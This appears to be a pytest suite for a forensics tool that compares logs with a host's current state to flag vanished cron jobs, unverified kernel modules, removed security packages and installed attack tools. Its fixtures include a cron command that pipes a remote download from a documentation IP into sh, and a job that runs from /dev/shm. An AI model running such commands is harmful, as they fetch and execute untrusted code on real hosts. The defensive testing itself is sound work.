"""What logs say was done, beside what the host has now."""

from __future__ import annotations

from pathlib import Path

import pytest

from stopgap.orchestrator.findings import judge, shipped_rules

from .collection import collected

RULES = shipped_rules()
STAMP = "Nov 23 02:00:01 web "


def told(folder: Path, planted: dict[str, object]) -> dict[str, tuple[str, str]]:
    """Return severity and first sighting of each finding that is more than a list."""
    found = judge(collected(folder, planted), RULES).findings
    return {each.id: (each.severity, each.seen[0].what) for each in found if each.severity != "info"}


@pytest.mark.parametrize(
    ("command", "severity"),
    [
        ("/dev/shm/u", "high"),
        ("curl -fsS http://198.51.100.9/i | sh", "critical"),
        ("/usr/lib/sync-cache", "low"),
        ("test -x /usr/bin/certbot && certbot renew $(date +\\%F)", ""),
        ("/dev/shm/u\t-x  $(date +\\%F)%input", "high"),
    ],
)
def test_a_job_that_ran_and_is_in_no_table_is_weighed_by_what_it_leads_to(
    tmp_path: Path, command: str, severity: str
) -> None:
    logged = command.partition("%input")[0].replace("\\%", "%").replace("\t", "^I")
    planted: dict[str, object] = {
        "logs": {"/var/log/syslog": f"{STAMP}CRON[5]: (root) CMD ({logged})\n"},
        "cron": {"/etc/crontab": "17 * * * * root run-parts /etc/cron.hourly\n"},
        "package-digests": "d41d8cd98f00b204e9800998ecf8427e  usr/bin/true\n",
        "bodyfile": "0|/usr/bin/true|1|-rwxr-xr-x|0|0|9|1.0|1.0|1.0|0.0\n",
    }
    assert told(tmp_path / "gone", planted).get("job-gone", ("",))[0] == severity
    planted["cron"] = {"/var/spool/cron/crontabs/root": f"* * * * * {command}\n"}
    assert "job-gone" not in told(tmp_path / "present", planted)
    planted["cron"] = {"/etc/cron.d/x": f"* * * * * root {command}\n"}
    assert "job-gone" not in told(tmp_path / "system", planted)
    del planted["cron"]
    assert "job-gone" not in told(tmp_path / "unread", planted)


@pytest.mark.parametrize(
    "line",
    [
        f"{STAMP}haproxy[9]: GET / {{x CRON[1]: (root) CMD (/dev/shm/u)",
        "Nov 23 02:00:01 db1 CRON[5]: (root) CMD (/dev/shm/u)",
    ],
)
def test_what_a_visitor_says_and_what_another_host_ran_is_no_job_of_this_host(tmp_path: Path, line: str) -> None:
    planted = {
        "logs": {"/var/log/syslog": f"{line}\n"},
        "cron": {"/etc/crontab": "\n"},
        "configuration": {"/etc/hostname": "web\n"},
    }
    assert "job-gone" not in told(tmp_path, planted)


@pytest.mark.parametrize(("loaded", "severity"), [("evil", "low"), ("ext4", "medium")])
def test_a_module_that_could_not_be_verified_is_worse_where_the_kernel_no_longer_names_it(
    tmp_path: Path, loaded: str, severity: str
) -> None:
    log = f"{STAMP}kernel: [    9.1] evil: module verification failed: signature and/or required key missing\n"
    planted = {"logs": {"/var/log/kern.log": log}, "modules": f"/proc/modules:{loaded} 16384 0 - Live 0x0\n"}
    assert told(tmp_path, planted)["module-unverified"][0] == severity


@pytest.mark.parametrize(
    ("log", "line", "rule"),
    [
        ("dpkg.log", "2026-11-23 03:11:02 remove auditd:amd64 1:3.0.9-1 <none>", "guard-removed"),
        ("dpkg.log", "2026-11-23 03:11:02 remove auditd-plugins:amd64 1:3.0.9-1 <none>", ""),
        ("dpkg.log", "2026-11-23 03:11:02 status installed auditd:amd64 1:3.0.9-1", ""),
        ("apt/history.log", "Remove: libx:amd64 (1), fail2ban:all (1.0.2-2)", "guard-removed"),
        ("apt/history.log", "Install: libpcap0.8:amd64 (1), hydra:amd64 (9.4-1)", "tool-of-attackers-installed"),
        ("dnf.rpm.log", "2026-11-23T03:12:00+0000 SUBDEBUG Erase: audit-3.0.7-104.el9", "guard-removed"),
        ("dpkg.log", "2026-11-23 03:11:02 remove golang-github-x-aide:all 1 <none>", ""),
        ("apt/history.log", "Install: torbrowser-launcher:amd64 (0.3), libjohnson:amd64 (9.4-1)", ""),
        (
            "dnf.rpm.log",
            "2026-11-23T03:12:00+0000 SUBDEBUG Installed: masscan-1.3.2-1.el9",
            "tool-of-attackers-installed",
        ),
    ],
)
def test_guards_that_go_and_tools_that_come_are_told_by_the_package_managers_log(
    tmp_path: Path, log: str, line: str, rule: str
) -> None:
    found = told(tmp_path, {"logs": {f"/var/log/{log}": f"{line}\n"}})
    assert {"guard-removed", "tool-of-attackers-installed"} & found.keys() == ({rule} if rule else set())


def test_a_guard_that_was_installed_again_is_not_told(tmp_path: Path) -> None:
    line = "2026-11-23 03:11:02 remove auditd:amd64 1:3.0.9-1 <none>\n"
    planted = {"logs": {"/var/log/dpkg.log": line}, "packages": "$ dpkg-query -W\nauditd\t1:3.0.9-1\n"}
    assert "guard-removed" not in told(tmp_path, planted)


@pytest.mark.parametrize(
    ("lines", "stays"),
    [
        (("01:00:01 Stopped",), True),
        (("01:00:01 Stopped", "01:00:09 Started"), False),
        (("01:00:01 Started", "01:00:09 Stopped"), True),
    ],
)
def test_a_guard_that_was_stopped_is_told_though_no_line_follows(
    tmp_path: Path, lines: tuple[str, ...], *, stays: bool
) -> None:
    log = "".join(
        f"Nov 22 {time} web systemd[1]: {state} rsyslog.service - System Logging Service\n"
        for time, state in (line.split() for line in lines)
    )
    assert ("guard-stopped" in told(tmp_path, {"logs": {"/var/log/syslog": log}})) is stays
